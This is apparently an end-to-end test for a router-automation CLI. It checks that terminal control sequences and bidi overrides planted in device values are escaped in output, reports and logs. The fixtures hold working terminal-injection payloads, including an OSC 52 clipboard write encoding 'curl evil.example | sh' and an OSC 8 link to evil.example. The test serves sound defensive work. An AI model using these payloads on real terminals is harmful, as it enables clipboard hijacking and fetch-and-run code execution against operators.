/**
 * A router whose values carry terminal control sequences and bidi overrides (an `ip host` address with OSC 52,
 * an EEM value with a screen clear and BEL, a CA certificate whose CN holds an OSC 8 hyperlink and U+202E):
 * `plan`, `rollout` and `fix` show them as visible escapes on stdout, stderr, in the JSON report and the log
 * file; only the transcript keeps the device's bytes, and says so.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixCommand } from '../../src/cli/commands/fix.js';
import { planCommand } from '../../src/cli/commands/plan.js';
import { rolloutCommand } from '../../src/cli/commands/rollout.js';
import type { WorkflowCommandDeps } from '../../src/cli/commands/rollout.js';
import { authenticateDialog, IOS_XE_CLI, removeTrustpointDialog, trustpointConfigLines } from '../../src/device/index.js';
import { BYTE_FAITHFUL, IosXeSession } from '../../src/transport/ssh-cli/index.js';
import { issue, testKey } from '../helpers/cert-factory.js';
import { Capture, labCommandDeps, startE2eLab } from './helpers.js';
import type { E2eLab } from './helpers.js';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const HOSTILE_ADDRESS = `192.0.2.7${OSC52}`;
const HOSTILE_MAIL = 'ops\u001b[2J\u001b[H\u0007@lab.example';
const HOSTILE_CN = 'Lab Root \u001b]8;;https://evil.example/\u0007R1\u001b]8;;\u0007 \u202eevil\u202c';
/** What must never reach an operator's screen or a report: C0 but line feed, DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex -- the raw bytes are what the test looks for
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

describe('device text is escaped before it is shown', () => {
  let e2e: E2eLab;
  beforeAll(async () => {
    e2e = await startE2eLab({ devices: 1 });
  });
  afterAll(async () => {
    await e2e?.stop();
  });

  const deps = (out: Capture, err: Capture): WorkflowCommandDeps => labCommandDeps(e2e, out, err);

  async function poison(withCertificate: boolean): Promise<void> {
    const router = e2e.lab.device('lab-r001').router;
    router.state.ipHosts.set('smtp.lab.example', HOSTILE_ADDRESS);
    router.state.eem.environment.set('_email_to', HOSTILE_MAIL);
    if (!withCertificate) return;
    const root = issue({ subject: HOSTILE_CN, key: testKey('rsa', 'hostile'), ca: true });
    const device = e2e.lab.device('lab-r001');
    const session = await IosXeSession.open({
      device: 'lab-r001',
      platform: IOS_XE_CLI,
      host: device.host,
      port: device.port,
      credentials: { username: e2e.lab.credentials.username, password: e2e.lab.credentials.password },
      hostKey: { mode: 'pinned', fingerprints: [device.hostKeyFingerprint] },
    });
    try {
      if (router.runningConfig().includes('crypto pki trustpoint LAB-Lab-Root-R1\n')) {
        await session.interact([{ send: 'configure terminal', expect: [] }, ...removeTrustpointDialog('LAB-Lab-Root-R1'), { send: 'end', expect: [] }]);
      }
      await session.sendConfig(trustpointConfigLines({ name: 'LAB-Lab-Root-R1', chainValidation: 'stop' }));
      await session.interact([
        { send: 'configure terminal', expect: [] },
        ...authenticateDialog('LAB-Lab-Root-R1', root.der, () => true),
        { send: 'end', expect: [] },
      ]);
    } finally {
      await session.close();
    }
  }

  function expectEscaped(text: string, what: string): void {
    const raw = RAW.exec(text);
    expect(raw === null ? `${what}: clean` : `${what}: raw U+${(raw[0].codePointAt(0) ?? 0).toString(16)} at ${raw.index}`).toBe(`${what}: clean`);
  }

  it('plan, rollout and fix show visible escapes, never the raw bytes; the transcript keeps them and says so', async () => {
    await poison(true);
    const dir = mkdtempSync(join(e2e.dir, 'hostile-'));
    const args = ['-i', e2e.inventoryFile, '-p', e2e.playbookFile, '--progress', 'lines', '-v', '-v'];

    const planOut = new Capture();
    const planErr = new Capture();
    expect(await planCommand(deps(planOut, planErr)).run([...args, '--json', join(dir, 'plan.jsonl')])).toBe(0);
    const planJson = readFileSync(join(dir, 'plan.jsonl'), 'utf8');
    for (const [what, text] of [
      ['plan stdout', planOut.text],
      ['plan stderr', planErr.text],
      ['plan JSON', planJson],
    ] as const)
      expectEscaped(text, what);
    expect(planOut.text).toContain('ip host smtp.lab.example: changed (192.0.2.7\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 → 127.0.0.1)');
    expect(planOut.text).toContain('cn=Lab Root \\x1b]8;;https://evil.example/\\x07R1\\x1b]8;;\\x07 \\u202eevil\\u202c');
    expect(JSON.parse(planJson.split('\n')[1] ?? '{}')).toMatchObject({
      changes: expect.arrayContaining([
        { object: 'environment _email_to', action: 'changed', detail: expect.stringMatching(/^ops(\\x1b\[2J\\x1b\[H)?\\x07@lab\.example → /) },
      ]),
    });

    const out = new Capture();
    const err = new Capture();
    const transcripts = join(dir, 'transcripts');
    expect(
      await rolloutCommand(deps(out, err)).run([
        ...args,
        '--json',
        join(dir, 'rollout.jsonl'),
        '--log-file',
        join(dir, 'run.log'),
        '--transcripts',
        transcripts,
      ]),
    ).toBe(0);
    for (const [what, text] of [
      ['rollout stdout', out.text],
      ['rollout stderr', err.text],
      ['rollout JSON', readFileSync(join(dir, 'rollout.jsonl'), 'utf8')],
      ['log file', readFileSync(join(dir, 'run.log'), 'utf8')],
    ] as const) {
      expectEscaped(text, what);
    }
    expect(readFileSync(join(dir, 'run.log'), 'utf8')).toContain('\\u202eevil');
    const transcript = readFileSync(join(transcripts, 'lab-r001.log'), 'utf8');
    expect(transcript.split('\n')[1]).toContain(BYTE_FAITHFUL);
    expect(transcript).toContain(HOSTILE_ADDRESS);

    await poison(false);
    const fixOut = new Capture();
    const fixErr = new Capture();
    expect(await fixCommand(deps(fixOut, fixErr)).run(['lab-r001', ...args, '--json', join(dir, 'fix.jsonl')])).toBe(0);
    const fixJson = readFileSync(join(dir, 'fix.jsonl'), 'utf8');
    for (const [what, text] of [
      ['fix stdout', fixOut.text],
      ['fix stderr', fixErr.text],
      ['fix JSON', fixJson],
    ] as const)
      expectEscaped(text, what);
    expect(fixOut.text).toContain('The router cannot resolve the mail server as the playbook means: ip host smtp.lab.example 192.0.2.7\\x1b]52;c;');
  });
});
